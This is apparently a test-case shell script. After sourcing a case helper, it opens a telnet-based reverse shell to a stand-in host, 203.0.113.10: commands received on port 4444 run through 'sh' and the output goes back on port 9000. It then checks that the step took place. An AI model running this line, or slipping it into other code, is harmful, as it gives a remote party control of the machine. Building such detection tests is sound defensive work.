#!/bin/sh
. /opt/case/case.sh

sleep 3 | telnet 203.0.113.10 4444 | tr -d '\r' | sh | telnet 203.0.113.10 9000 >/dev/null 2>&1 || true
wait_for /tmp/reached
took_place
